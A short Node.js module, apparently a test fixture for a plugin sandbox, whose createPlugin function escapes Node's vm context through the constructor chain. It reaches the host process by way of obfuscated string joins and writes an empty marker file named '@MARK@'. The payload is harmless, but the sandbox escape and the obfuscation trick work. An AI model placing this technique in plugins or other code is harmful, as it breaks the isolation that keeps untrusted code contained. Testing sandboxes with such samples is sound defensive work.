// Leaves a new context of vm by the constructor of an object of this one.
const { runInNewContext } = require('vm');
exports.createPlugin = () => {
  const p = runInNewContext("o.constructor.constructor('return this')()", { o: {} })[['pro', 'cess'].join('')];
  p[['getBuiltin', 'Module'].join('')]('fs').writeFileSync('@MARK@', '');
};
